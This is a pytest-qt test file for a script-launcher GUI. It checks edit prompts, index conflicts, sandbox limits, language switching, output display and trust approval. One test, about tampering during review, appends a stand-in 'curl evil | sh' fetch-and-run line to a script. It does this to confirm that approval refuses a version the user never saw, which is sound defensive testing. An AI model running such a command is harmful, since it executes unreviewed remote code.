"""The window, trusted with your edits (issue 20): nothing lost, nothing done to the wrong tool, faithful
output, room to work. Real widgets, offscreen, through pytest-qt; each test failed before its fix."""

from __future__ import annotations

import json

import pytest
from PySide6.QtCore import Qt
from PySide6.QtWidgets import QMessageBox, QPushButton
from scriptdeck.core.store.paths import Home
from scriptdeck.gui.widgets.file_dialog import UiLocaleDates

from tests.conftest import close_window, deck_home, open_window, skip_close_questions, window_open, write_script
from tests.gui_texts import settle

WEATHER = ("#!/usr/bin/env python3\n# 显示名称：天气查询\n# Display name: Weather lookup\n"
           "# Description: Look up the weather for a city.\n# 描述：查询城市天气。\n# Group: weather\n"
           "# Parameters: {\"type\":\"object\",\"properties\":{\"city\":{\"type\":\"string\",\"description\":"
           "\"city name\",\"pattern\":\"^[a-z]+$\"},\"days\":{\"type\":\"integer\"}},\"required\":[\"city\"]}\n"
           "print('sunny')\n")
DEPLOY = ("#!/bin/sh\n# 显示名称：部署服务\n# Display name: Deploy service\n# Description: Deploy the service.\n"
          "# Group: ops\necho deploying\n")


@pytest.fixture
def home(tmp_path) -> Home:
    return deck_home(tmp_path / "home", {"weather.py": WEATHER, "deploy.sh": DEPLOY})


ROOM = (1100, 700)  # the window's size: room for every pane


@pytest.fixture
def window(qtbot, home):
    with window_open(qtbot, home, size=ROOM) as win:
        yield win


def answer(owner, key: str) -> None:
    box = owner.prompt
    assert isinstance(box, QMessageBox), "a question should be open"
    button = box.findChild(QPushButton, f"answer-{key}")
    assert button is not None, f"no answer {key}"
    button.click()
    settle()


# -- 1. the header editor never drops edits -------------------------------------------------------------


@pytest.mark.parametrize("how", ["close-button", "escape", "window-close"])
def test_header_editor_asks_before_dropping_edits(window, qtbot, how):
    window.select_tool("weather")
    editor = window.tool_actions.edit_header()
    qtbot.waitExposed(editor)
    editor.edits["description"].setText("Typed but not saved.")
    if how == "close-button":
        editor.buttons.button(editor.buttons.StandardButton.Close).click()
    elif how == "escape":
        qtbot.keyClick(editor, Qt.Key.Key_Escape)
    else:
        editor.close()
    settle()
    assert editor.isVisible(), "the editor closed with unsaved edits"
    answer(editor, "cancel")
    assert editor.isVisible()
    assert editor.edits["description"].text() == "Typed but not saved."


def test_header_editor_close_prompt_save_writes(window, qtbot, home):
    window.select_tool("weather")
    editor = window.tool_actions.edit_header()
    editor.edits["description"].setText("Saved on the way out.")
    editor.close()
    answer(editor, "save")
    qtbot.waitUntil(lambda: window.tool_actions.header_editor is None)
    assert "# Description: Saved on the way out." in (home.root / "scripts" / "weather.py").read_text()


def test_header_editor_close_prompt_discard_leaves_the_file(window, qtbot, home):
    before = (home.root / "scripts" / "weather.py").read_bytes()
    window.select_tool("weather")
    editor = window.tool_actions.edit_header()
    editor.edits["description"].setText("Thrown away.")
    editor.close()
    answer(editor, "discard")
    qtbot.waitUntil(lambda: window.tool_actions.header_editor is None)
    assert (home.root / "scripts" / "weather.py").read_bytes() == before


def test_header_editor_without_edits_closes_at_once(window, qtbot):
    window.select_tool("weather")
    editor = window.tool_actions.edit_header()
    editor.close()
    qtbot.waitUntil(lambda: window.tool_actions.header_editor is None)


# -- 2. an outside change to index.json is shown, never overwritten -------------------------------------


def write_index(home: Home, entry: dict) -> None:
    path = home.global_dir / "index.json"
    path.write_text(json.dumps({"scripts": [{"id": "weather", "path": "weather.py", **entry}]}), encoding="utf-8")


def index_entry(home: Home) -> dict:
    return json.loads((home.global_dir / "index.json").read_text())["scripts"][0]


def test_outside_change_to_a_typed_field_is_a_conflict_not_an_overwrite(window, home):
    window.select_tool("weather")
    overrides = window.overrides
    window.tabs.setCurrentWidget(overrides)
    overrides.editors["description"].setText("Mine.")
    write_index(home, {"description": "Theirs.", "groups": ["outside"]})
    window.controller.rescan()  # what the watcher does
    settle()
    assert overrides.conflict_bar.isVisible()
    assert overrides.editors["description"].text() == "Mine."
    assert overrides.editors["groups"].text() == "outside", "an untouched field shows the outside value"
    assert not overrides.save_button.isEnabled()
    overrides.save()
    assert index_entry(home)["description"] == "Theirs."


def test_save_looks_at_the_file_first(window, home):
    """Without a watcher report, Save itself finds the outside change to the same field."""
    window.select_tool("weather")
    overrides = window.overrides
    window.tabs.setCurrentWidget(overrides)
    overrides.editors["description"].setText("Mine.")
    write_index(home, {"description": "Theirs."})
    overrides.save()
    settle()
    assert index_entry(home)["description"] == "Theirs."
    assert overrides.conflict_bar.isVisible()


def test_conflict_reload_takes_theirs_and_keep_mine_saves_mine(window, home):
    window.select_tool("weather")
    overrides = window.overrides
    window.tabs.setCurrentWidget(overrides)
    overrides.editors["description"].setText("Mine.")
    write_index(home, {"description": "Theirs."})
    window.controller.rescan()
    both = overrides.show_both()
    texts = {label.objectName(): label.text() for label in both.findChildren(type(overrides.note))}
    assert texts["both-description-mine"] == "Mine." and texts["both-description-theirs"] == "Theirs."
    overrides.conflict_buttons["reload"].click()
    assert overrides.editors["description"].text() == "Theirs."
    assert not overrides.conflict_bar.isVisible()
    overrides.editors["description"].setText("Mine again.")
    write_index(home, {"description": "Theirs again.", "groups": ["g"]})
    window.controller.rescan()
    overrides.conflict_buttons["keep"].click()
    overrides.save()
    assert index_entry(home)["description"] == "Mine again."
    assert index_entry(home)["groups"] == ["g"], "the outside change to another field is kept"


# -- 3. sandbox limits survive a tool switch; the wheel only changes a focused spin box -----------------


def sandbox_of(window):
    return window.details.guard.sandbox


def test_unsaved_sandbox_limits_ask_on_tool_switch(window):
    window.select_tool("weather")
    box = sandbox_of(window)
    box.spins["processes"].setValue(7)
    window.select_tool("deploy")
    settle()
    answer(window, "cancel")
    assert window.current_tool().id == "weather"
    assert box.tool_id == "weather" and box.spins["processes"].value() == 7


def test_unsaved_sandbox_limits_save_go_to_that_tool_only(window, home):
    """Also guard: a tool's limits are saved to that tool, never into the default profile."""
    from scriptdeck.core.run.sandbox import SandboxStore

    window.select_tool("weather")
    sandbox_of(window).spins["processes"].setValue(7)
    window.select_tool("deploy")
    settle()
    answer(window, "save")
    assert window.current_tool().id == "deploy"
    store = SandboxStore(home.state_dir)
    assert store.profile("weather").processes == 7
    assert store.default_profile().processes != 7
    assert store.profile("deploy").processes != 7


def test_a_rescan_keeps_typed_limits(window):
    window.select_tool("weather")
    sandbox_of(window).spins["memory_mb"].setValue(512)
    from scriptdeck.gui.services.changes import Changes

    window.controller.announce(Changes(registry=True))
    settle()
    assert sandbox_of(window).spins["memory_mb"].value() == 512


def wheel(widget, steps: int = 1) -> None:
    from PySide6.QtCore import QPoint, QPointF
    from PySide6.QtGui import QWheelEvent
    from PySide6.QtWidgets import QApplication

    centre = QPointF(widget.rect().center())
    event = QWheelEvent(centre, QPointF(widget.mapToGlobal(centre.toPoint())), QPoint(0, 0), QPoint(0, 120 * steps),
                        Qt.MouseButton.NoButton, Qt.KeyboardModifier.NoModifier, Qt.ScrollPhase.NoScrollPhase, False)
    QApplication.sendEvent(widget, event)


def test_wheel_over_an_unfocused_spin_box_leaves_it_alone(window):
    window.select_tool("weather")
    window.tabs.setCurrentWidget(window.details)
    spin = sandbox_of(window).spins["processes"]
    before = spin.value()
    window.tree.setFocus()
    wheel(spin.lineEdit() if False else spin, 2)
    assert spin.value() == before
    spin.setFocus()
    wheel(spin, 2)
    assert spin.value() != before, "a focused spin box still takes the wheel"


# -- 4. the highlighted tool and the tool acted on always agree -----------------------------------------


def click_tool(window, qtbot, tool_id: str) -> None:
    index = next(window.proxy.mapFromSource(i) for i in window.model.indexes_for(tool_id))
    window.tree.scrollTo(index)
    rect = window.tree.visualRect(index)
    qtbot.mouseClick(window.tree.viewport(), Qt.MouseButton.LeftButton, pos=rect.center())
    settle()


def test_cancel_on_unsaved_overrides_keeps_the_highlight_on_the_tool_shown(window, qtbot):
    window.select_tool("weather")
    window.overrides.editors["description"].setText("Typed.")
    click_tool(window, qtbot, "deploy")
    answer(window, "cancel")
    from scriptdeck.gui.deck.tool_model import TOOL_ROLE

    selected = {i.data(TOOL_ROLE).id for i in window.tree.selectionModel().selectedRows() if i.data(TOOL_ROLE)}
    assert selected == {"weather"}
    assert window.current_tool().id == "weather" and window.details.tool.id == "weather"
    assert window.tool_actions.tool().id == "weather", "Del would act on another tool than the one shown"


# -- 5. Settings shows the language the window runs in; Save alone switches nothing ---------------------


def test_settings_shows_the_running_language_and_save_keeps_it(qtbot, home):
    home.settings_path.parent.mkdir(parents=True, exist_ok=True)
    home.settings_path.write_text(json.dumps({"language": "zh_CN"}), encoding="utf-8")
    with window_open(qtbot, home, "en", size=ROOM) as win:
        dialog = win.dialogs.open_settings()
        assert dialog.language.currentData() == "en"
        dialog.buttons.button(dialog.buttons.StandardButton.Save).click()
        settle()
        assert win.lang == "en" and win.controller.lang == "en"
        assert win.windowTitle() and "工具" not in win.windowTitle()
        assert json.loads(home.settings_path.read_text())["language"] == "zh_CN", "the saved choice is kept"


def test_settings_language_picked_is_applied_and_saved(qtbot, home):
    win = open_window(qtbot, home, "en", size=ROOM)
    try:
        dialog = win.dialogs.open_settings()
        dialog.language.setCurrentIndex(dialog.language.findData("zh_CN"))
        dialog.buttons.button(dialog.buttons.StandardButton.Save).click()
        settle()
        assert win.lang == "zh_CN"
        assert json.loads(home.settings_path.read_text())["language"] == "zh_CN"
    finally:
        win.set_language("en")
        close_window(win)


# -- 6, 7. the inline result is the output as printed: leading spaces, arrival order, stderr in colour ---

INDENTED = ("#!/bin/sh\n# Display name: Indented\n# Description: Prints an indented table.\n# Group: ops\n"
            "printf '   id  name\\n   1   one\\n'\n")
MIXED = ("#!/bin/sh\n# Display name: Mixed\n# Description: Writes to both streams in turn.\n# Group: ops\n"
         "echo out-1\nsleep 0.4\necho err-1 >&2\nsleep 0.4\necho out-2\n")


def run_tool(window, qtbot, home, name: str, text: str):
    write_script(home.root / "scripts" / f"{name}.sh", text)
    window.controller.rescan()
    assert window.select_tool(name)
    view = window.run_panel.run_now()
    qtbot.waitUntil(lambda: not view.run.running, timeout=15000)
    settle()
    return view


def test_inline_result_keeps_leading_whitespace(window, qtbot, home):
    view = run_tool(window, qtbot, home, "indented", INDENTED)
    assert view.output.toPlainText().startswith("   id  name\n   1   one")


def test_stdout_and_stderr_keep_their_arrival_order_after_the_run(window, qtbot, home):
    view = run_tool(window, qtbot, home, "mixed", MIXED)
    text = view.output.toPlainText()
    assert text.index("out-1") < text.index("err-1") < text.index("out-2"), text
    cursor = view.output.textCursor()
    cursor.setPosition(text.index("err-1") + 1)
    assert cursor.charFormat().foreground().color().name() == "#b00020", "stderr is coloured"
    cursor.setPosition(text.index("out-2") + 1)
    assert cursor.charFormat().foreground().color().name() != "#b00020"


# -- 8. the form's constraint hints follow a live language switch -----------------------------------------


def test_pattern_hint_follows_the_language_switch(qtbot, home):
    from scriptdeck.gui.widgets.form_widgets import FieldEditor

    win = open_window(qtbot, home, "zh_CN", size=ROOM)
    try:
        win.select_tool("weather")

        def hints() -> list[str]:
            return [e.hint_label.text() for e in win.run_panel.findChildren(FieldEditor) if e.hint_label.text()]

        # the form is built (and rebuilt on a switch) through the event loop: wait, bounded, for each state
        qtbot.waitUntil(lambda: any("须匹配" in h for h in hints()), timeout=10000)
        win.set_language("en")
        settle()
        qtbot.waitUntil(lambda: any(h.startswith("must match ^[a-z]+$") for h in hints()), timeout=10000)
        assert not any("须匹配" in h for h in hints())
    finally:
        win.set_language("en")
        close_window(win)


# -- 11. room to work: quit, about, help, trust diff, revoke, empty filter -------------------------------


def test_file_quit_and_ctrl_q_close_the_window(window, qtbot):
    actions = [a for a in window.tool_actions.file_menu.actions() if a.objectName() == "file-quit"]
    assert actions and actions[0].shortcut().toString() == "Ctrl+Q"
    skip_close_questions(window)
    actions[0].trigger()
    qtbot.waitUntil(lambda: not window.isVisible())


def test_about_says_what_where_and_which_versions(window):
    from scriptdeck import __version__

    page = window.tool_actions.show_about()
    text = page.browser.toPlainText()
    assert __version__ in text and str(window.controller.home.state_dir) in text and "PySide6" in text
    assert len(text) > 300
    page.close()


def test_header_format_help_has_no_sideways_scrolling(window, qtbot):
    page = window.tool_actions.show_header_format()
    qtbot.waitExposed(page)
    settle()
    assert page.browser.horizontalScrollBar().maximum() == 0
    page.close()


def test_trust_diff_is_coloured_and_labelled_and_approval_can_be_revoked(window, home):
    from scriptdeck.core.run import trust

    window.select_tool("deploy")
    box = window.details.guard.trust
    box.approve()
    assert box.revoke_button.isEnabled()
    path = home.root / "scripts" / "deploy.sh"
    path.write_text(path.read_text() + "echo changed\n")
    box.show_tool("deploy", path)
    box.review()
    view = box.dialog.view
    text = view.toPlainText()
    assert "(approved)" in text and "+echo changed" in text
    block = view.document().findBlock(text.index("+echo changed"))
    assert block.blockFormat().background().color().name() == "#e6ffec"
    box.dialog.close()
    box.revoke_button.click()
    assert trust.TrustStore(home.state_dir).state("deploy", path)["state"] == trust.UNREVIEWED
    assert not box.revoke_button.isEnabled()


def test_a_filter_that_hides_every_tool_says_so(window):
    actions = window.tool_actions
    actions.filters["dialect"].add("no-such-dialect")
    actions._apply_filters()
    assert window.no_results.isVisibleTo(window)
    assert "Filter" in window.no_results.text()
    actions.clear_filters()
    assert not window.no_results.isVisibleTo(window)


# -- 10. a dropped picture is refused with a reason, never previewed as text; the overlay hides the content -


def test_a_dropped_png_is_refused_before_any_preview(window, tmp_path):
    from tests.conftest import drop

    png = tmp_path / "picture.png"
    png.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)
    drop(window, [png])
    dialog = window.dialogs.register_dialog
    candidate = dialog.candidates[0]
    assert "PNG" in dialog.problem(candidate) and "#!" in dialog.problem(candidate)
    dialog.list.setCurrentRow(0)
    assert "\ufffd" not in dialog.header_view.toPlainText() and "PNG" in dialog.header_view.toPlainText()
    assert not dialog.buttons.button(dialog.buttons.StandardButton.Ok).isEnabled()
    dialog.close()


def test_the_drop_overlay_is_opaque_enough_to_read(window):
    import re

    alpha = re.search(r"background: rgba\(\d+, \d+, \d+, (\d+)\)", window.drop_hint.styleSheet())
    assert alpha and int(alpha.group(1)) >= 220, "the content must not show through the drop text"


# -- 9. room to work in the run panel ---------------------------------------------------------------------


def test_validation_waits_for_a_touch_or_run_and_never_moves_the_buttons(window, qtbot):
    window.select_tool("weather")  # city is required and empty
    panel = window.run_panel
    window.tabs.setCurrentWidget(panel)
    settle()
    assert panel.validation.text() == "", "nothing was touched yet"
    button_y = panel.run_button.mapTo(panel, panel.run_button.rect().topLeft()).y()
    assert panel.run_button.isEnabled()
    assert panel.run_now() is None, "Run with a missing field shows why instead of running"
    settle()
    assert "city" in panel.validation.text()
    assert panel.run_button.mapTo(panel, panel.run_button.rect().topLeft()).y() == button_y


def test_the_form_keeps_its_room_and_the_splitter_is_remembered(window, qtbot, home):
    window.select_tool("weather")
    panel = window.run_panel
    window.tabs.setCurrentWidget(panel)
    settle()
    assert panel.arg_tabs.height() >= 180
    panel.splitter.setSizes([500, 200])
    wanted = panel.splitter.sizes()
    window.tool_actions.save_layout()
    with window_open(qtbot, home, size=ROOM) as second:
        second.tabs.setCurrentWidget(second.run_panel)
        settle()
        assert second.run_panel.splitter.sizes() == wanted


def test_run_tabs_stay_readable_after_ten_runs(window, qtbot, home):
    write_script(home.root / "scripts" / "reader.sh", "#!/bin/sh\n# 显示名称：读日志\n# Display name: Read the "
                 "service log of the day\n# Description: Read the log.\n# Permission: read_only\necho reading\n")
    window.controller.rescan()
    window.select_tool("reader")
    panel = window.run_panel
    window.tabs.setCurrentWidget(panel)
    views = [panel.run_now() for _ in range(10)]
    for view in views:
        qtbot.waitUntil(lambda v=view: not v.run.running, timeout=15000)
    tabs = panel.run_tabs
    assert tabs.count() == 10
    assert tabs.elideMode() == Qt.TextElideMode.ElideMiddle and tabs.usesScrollButtons()
    assert all(tabs.tabToolTip(i) == tabs.widget(i).title for i in range(10))
    assert all(tabs.tabBar().tabRect(i).width() >= 80 for i in range(10))


def test_a_preset_is_not_saved_from_an_invalid_form(window):
    window.select_tool("weather")
    panel = window.run_panel
    panel.save_preset.click()
    assert panel.prompt is None, "no name is asked for arguments that cannot run"
    assert "city" in panel.validation.text()


# -- also guard: Details says where a value comes from ----------------------------------------------------


def test_details_labels_an_index_override_as_index_and_a_header_value_as_header(window, home):
    write_script(home.root / "scripts" / "timed.sh", "#!/bin/sh\n# 显示名称：限时\n# Display name: Timed\n"
                 "# Description: Has a timeout.\n# Timeout: 42\necho\n")
    write_index(home, {"timeout_seconds": 7})  # weather: an index.json override, no header value
    window.controller.rescan()
    window.select_tool("timed")
    header_text = window.details.values["timeout"].text()
    assert "42" in header_text and "header" in header_text and "index" not in header_text
    window.select_tool("weather")
    index_text = window.details.values["timeout"].text()
    assert "7" in index_text and "index.json" in index_text and "header" not in index_text


def test_details_names_the_layer_a_tool_comes_from_and_a_default_value_as_default(window, home):
    write_script(home.root / "scripts" / "personas" / "default" / "mine.sh",
                 "#!/bin/sh\n# Description: Only this persona's.\necho\n")
    window.controller.rescan()
    window.select_tool("mine")
    assert window.details.values["layer"].text() == "persona"
    assert window.details.values["timeout"].text().endswith("(default)")
    window.select_tool("deploy")
    assert window.details.values["layer"].text() == "global"


# -- state files fail closed (issue 19 / SPEC §19): shown with open / reset, never overwritten -------------


def banner_text(window) -> str:
    from PySide6.QtWidgets import QLabel

    return " ".join(label.text() for label in window.state_banner.findChildren(QLabel))


@pytest.mark.parametrize("name", ["sandbox.json", "trust.json"])
def test_a_broken_state_file_is_shown_and_never_overwritten(qtbot, home, name):
    home.state_dir.mkdir(parents=True, exist_ok=True)
    broken = home.state_dir / name
    broken.write_text('{"default": {"network": "deny"},}')  # one stray comma
    with window_open(qtbot, home, size=ROOM) as win:
        assert win.state_banner.isVisible()
        assert str(broken) in banner_text(win)
        win.select_tool("weather")
        win.details.guard.sandbox.spins["processes"].setValue(3)
        win.details.guard.sandbox.save()
        win.details.guard.trust.approve()
        assert broken.read_text() == '{"default": {"network": "deny"},}'


def test_reset_moves_the_broken_file_aside_after_asking(qtbot, home):
    home.state_dir.mkdir(parents=True, exist_ok=True)
    broken = home.state_dir / "sandbox.json"
    broken.write_text("{oops")
    with window_open(qtbot, home, size=ROOM) as win:
        row = win.state_banner.findChild(QPushButton, "state-reset")
        row.click()
        answer(win.state_banner, "reset")
        settle()
        kept = list(home.state_dir.glob("sandbox.json.broken-*"))
        assert len(kept) == 1 and kept[0].read_text() == "{oops"
        assert not broken.exists()
        assert not win.state_banner.isVisible()


# -- 11. more room to work --------------------------------------------------------------------------------


def test_new_tool_without_an_editor_opens_the_header_editor(window, monkeypatch, home):
    monkeypatch.delenv("VISUAL", raising=False)
    monkeypatch.delenv("EDITOR", raising=False)
    opened = []
    monkeypatch.setattr(window.tool_actions.launcher, "open_url", lambda url: opened.append(url) or False)
    path = home.root / "scripts" / "fresh.py"
    write_script(path, "#!/usr/bin/env python3\n# 显示名称：新工具\n# Description: New.\nprint(1)\n")
    window.controller.rescan()
    window.tool_actions._created("fresh", str(path))
    settle()
    editor = window.tool_actions.header_editor
    assert editor is not None and editor.isVisible() and editor.tool.id == "fresh"
    assert opened == [], "no desktop guess at an editor for a script"
    editor._leaving = True
    editor.close()


def test_a_builtin_tools_header_editor_looks_read_only(window):
    window.select_tool("color_swatch")
    editor = window.tool_actions.edit_header()
    assert not editor.edits["description"].isEnabled()
    assert not editor.parameters.edit.isEnabled()
    assert not editor.buttons.button(editor.buttons.StandardButton.Save).isVisible()
    editor.close()


def test_saved_output_gets_a_portable_name_outside_the_working_folder(window, qtbot, home, monkeypatch):
    from pathlib import Path

    monkeypatch.chdir(home.root)
    window.select_tool("deploy")
    view = window.run_panel.run_now()
    qtbot.waitUntil(lambda: not view.run.running, timeout=15000)
    viewer = view.open_full_output()
    dialog = viewer.ask_save()
    assert isinstance(dialog.proxyModel(), UiLocaleDates)  # dates in the UI language, as in every file dialog
    name = dialog.selectedFiles()[0]
    assert ":" not in Path(name).name and Path(name).name.endswith("-stdout.txt")
    assert Path(dialog.directory().absolutePath()) != home.root
    dialog.close()
    viewer.close()


def test_the_no_tools_yet_card_goes_once_a_tool_is_registered(qtbot, tmp_path):
    from tests.conftest import drop

    root = tmp_path / "empty-home"
    (root / "scripts" / "personas" / "default").mkdir(parents=True)
    with window_open(qtbot, Home(root, forced=True), size=ROOM) as win:
        hint = win.tool_actions.empty_hint
        assert hint.isVisible()
        script = write_script(tmp_path / "first.sh", "#!/bin/sh\n# 显示名称：第一个\n# Description: The first.\necho\n")
        drop(win, [script])
        win.dialogs.register_dialog.buttons.accepted.emit()
        settle()
        assert win.controller.registry.get("first") is not None
        assert not hint.isVisible()


def test_the_no_tools_yet_card_goes_after_new_tool(qtbot, tmp_path, monkeypatch):
    root = tmp_path / "empty-home"
    (root / "scripts" / "personas" / "default").mkdir(parents=True)
    with window_open(qtbot, Home(root, forced=True), size=ROOM) as win:
        hint = win.tool_actions.empty_hint
        assert hint.isVisible()
        dialog = win.tool_actions.new_tool()
        dialog.id_edit.setText("check_disk")
        dialog.name_zh_edit.setText("检查磁盘")
        dialog.description_edit.setText("Report free disk space.")
        qtbot.keyClick(dialog.id_edit, Qt.Key.Key_Return)
        settle()
        assert win.controller.registry.get("check_disk") is not None
        assert not hint.isVisible()


def test_a_path_parameter_has_a_file_picker(window, tmp_path):
    from PySide6.QtWidgets import QToolButton

    window.select_tool("peek_file")
    panel = window.run_panel
    button = panel.editor.findChild(QToolButton, "pick-path")
    assert button is not None, "the path field has a picker"
    assert panel.editor.findChild(QToolButton, "pick-lines") is None
    chosen = tmp_path / "notes.txt"
    chosen.write_text("hello")
    editor = button.parent()
    while not hasattr(editor, "pick_path"):
        editor = editor.parent()
    dialog = editor.pick_path()
    assert isinstance(dialog.proxyModel(), UiLocaleDates)  # dates in the UI language, as in every file dialog
    dialog.fileSelected.emit(str(chosen))
    assert panel.arguments()["path"] == str(chosen)
    dialog.close()


def test_sandbox_limits_are_a_controller_operation_that_undo_takes_back(window, home, qtbot):
    from scriptdeck.core.run.sandbox import SandboxStore

    window.select_tool("weather")
    box = window.details.guard.sandbox
    with qtbot.waitSignal(window.controller.changed, check_params_cb=lambda changes: bool(changes.guard)) as signal:
        box.spins["processes"].setValue(9)
        assert box.save()
    assert signal.args[0].guard == {"weather"}
    assert SandboxStore(home.state_dir).profile("weather").processes == 9
    window.tool_actions.history.stack.undo()
    assert SandboxStore(home.state_dir).profile("weather").processes != 9


def test_the_default_profile_saved_in_settings_is_a_controller_operation_that_undo_takes_back(window, home, qtbot):
    """Settings → Sandbox and trust → Save writes the default profile through the controller (typed signal, undo),
    and leaves every tool's own limits alone."""
    from scriptdeck.core.run.sandbox import SandboxStore

    dialog = window.dialogs.open_settings()
    box = dialog.guard_tab.profile
    box.spins["processes"].setValue(7)
    with qtbot.waitSignal(window.controller.changed, check_params_cb=lambda changes: bool(changes.guard)) as signal:
        dialog.save()
    assert signal.args[0].guard == {""}
    assert SandboxStore(home.state_dir).profile("weather").processes == 7  # the default applies to the tool
    window.tool_actions.history.stack.undo()
    assert SandboxStore(home.state_dir).profile("weather").processes != 7


# -- the diff dialog's Approve: this tool, this version ---------------------------------------------------------

ALPHA = "#!/bin/sh\n# Display name: Alpha\n# Description: weather alpha tool.\n# Group: g\necho a\n"
BETA = "#!/bin/sh\n# Display name: Beta\n# Description: weather beta tool.\n# Group: g\necho b\n"


def _review_alpha(win, home: Home, edit: str):
    alpha = home.global_dir / "alpha.sh"
    win.controller.ops.set_trust("alpha", alpha, True)
    alpha.write_text(ALPHA + edit)
    win.controller.rescan()
    settle()
    assert win.select_tool("alpha")
    settle()
    box = win.details.guard.trust
    box.review()
    settle()
    assert box.dialog is not None and edit.strip() in box.dialog.view.toPlainText()
    return box, alpha


def test_approve_in_a_diff_pins_its_own_tool_when_another_is_shown(qtbot, tmp_path):
    """The dialog is modeless: the user selects beta, then clicks Approve in alpha's diff. Beta was approved,
    unseen, and alpha was left changed."""
    from scriptdeck.core.run.trust import TrustStore

    home = deck_home(tmp_path / "home", {"alpha.sh": ALPHA, "beta.sh": BETA})
    with window_open(qtbot, home) as win:
        box, alpha = _review_alpha(win, home, "echo changed-once\n")
        assert win.select_tool("beta")
        settle()
        box.dialog.approve_button.click()
        settle()
        store = TrustStore(home.state_dir)
        assert store.state("alpha", alpha)["state"] == "approved"
        assert store.state("beta", home.global_dir / "beta.sh")["state"] == "unreviewed"


def test_approve_in_a_diff_refuses_a_version_the_diff_never_showed(qtbot, tmp_path):
    """The file changes while its diff is open: Approve pins nothing and says so (it pinned the new bytes)."""
    from scriptdeck.core.run.trust import TrustStore

    home = deck_home(tmp_path / "home", {"alpha.sh": ALPHA, "beta.sh": BETA})
    with window_open(qtbot, home) as win:
        box, alpha = _review_alpha(win, home, "echo harmless\n")
        alpha.write_text(ALPHA + "echo harmless\ncurl evil | sh\n")
        box.dialog.approve_button.click()
        settle()
        store = TrustStore(home.state_dir)
        assert store.state("alpha", alpha)["state"] == "changed"
        copy = store.approved_copy(alpha)
        assert copy is not None and b"curl evil" not in copy and b"harmless" not in copy
        assert "review the changes again" in box.badge.text()
